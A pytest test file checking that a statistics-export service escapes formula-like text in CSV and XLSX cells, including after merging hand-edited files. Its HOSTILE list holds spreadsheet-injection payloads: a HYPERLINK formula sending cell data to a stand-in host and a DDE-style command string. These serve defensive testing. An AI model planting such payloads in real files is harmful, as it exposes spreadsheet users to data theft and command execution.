"""Spreadsheet cells are never formulas: in CSV and XLSX exports, and after a merge of files
from elsewhere (services/statistics_export.py: ``spreadsheet_cell``, ``is_formula_like``)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from intake_app.core.statistics import CellState, StatisticsReport, SuppressedTable
from intake_app.services import statistics_export
from intake_app.services.statistics_export import is_formula_like, spreadsheet_cell

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+31 6 1234 5678 +cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _report(label: str, table_id: str = "neighbourhood") -> StatisticsReport:
    shown = CellState.SHOWN
    table = SuppressedTable(
        id=table_id,
        title="Gesprekken per wijk",
        unit="gesprekken",
        rows=((label, label), ("Noord", "Noord")),
        columns=("2026-01",),
        values=((7, 7), (8, 8), (15, 15)),
        states=((shown, shown), (shown, shown), (shown, shown)),
        threshold=5,
    )
    return StatisticsReport("2026-01", "2026-01", None, 5, (table,))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_escaped_and_comes_back(text: str) -> None:
    assert is_formula_like(text)
    escaped = spreadsheet_cell(text)
    assert escaped == "'" + text
    assert not is_formula_like(escaped)


@pytest.mark.parametrize("text", ["Noord", "'s-Hertogenbosch", "-", "12", "<5", "x", ""])
def test_ordinary_cells_stay_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize("label", HOSTILE)
def test_csv_export_writes_text_and_reads_back_the_same_label(tmp_path: Path, label: str) -> None:
    out = statistics_export.write_csv(_report(label), tmp_path / "s.csv")
    text = out.read_bytes().decode("utf-8-sig")  # the Dutch dialect: BOM and semicolons
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not any(is_formula_like(cell) for cell in cells)
    assert "'" + label in cells
    back = statistics_export.read_csv(out)
    assert (label, label) in back.tables[0].rows


@pytest.mark.parametrize("label", HOSTILE)
def test_xlsx_export_stores_formula_like_text_as_text(tmp_path: Path, label: str) -> None:
    from openpyxl import load_workbook

    out = statistics_export.write_xlsx(_report(label, "=evil"), tmp_path / "s.xlsx")
    book = load_workbook(out)
    found = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == label:
                    found = True
                    assert cell.data_type == "s"
    assert found
    assert "=evil" in book.sheetnames


def test_a_merge_of_foreign_files_writes_no_formula(tmp_path: Path) -> None:
    """Two laptops' files, one edited by hand so that it holds a raw formula. After the
    merge the formula is text in the CSV and in the XLSX."""
    from openpyxl import load_workbook

    from intake_app.bootstrap.context import build_context, build_statistics_service
    from tests.stats_generator import generate

    files = []
    for name, seed in (("a", 1), ("b", 2)):
        built = build_context(db_url=f"sqlite:///{tmp_path / name}.db", data_dir=tmp_path)
        try:
            generate(built.storage.engine, 200, seed=seed)
            report = built.statistics.compute("2026-01", "2026-06")
            files.append(
                built.statistics.export(report, tmp_path / f"{name}.csv", "csv", "standard")
            )
        finally:
            built.close()
    # Edited by hand elsewhere: a table title became a raw formula (never written by us).
    # (Row labels that are no fixed category are refused by the merge's own check.)
    rows = list(csv.reader(io.StringIO(files[0].read_bytes().decode("utf-8"), newline="")))
    for row in rows:
        if row[0] == "sessions":
            row[1] = HOSTILE[0]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    files[0].write_bytes(buffer.getvalue().encode("utf-8"))
    stats = build_statistics_service()
    merged = stats.merge(files)
    assert any(table.title == HOSTILE[0] for table in merged.tables)
    out_csv = stats.export(merged, tmp_path / "m.csv", "csv", "standard")
    text_out = out_csv.read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text_out, newline="")) for c in row]
    assert "'" + HOSTILE[0] in cells
    assert not any(is_formula_like(cell) for cell in cells)
    out_xlsx = stats.export(merged, tmp_path / "m.xlsx", "xlsx")
    for sheet in load_workbook(out_xlsx).worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
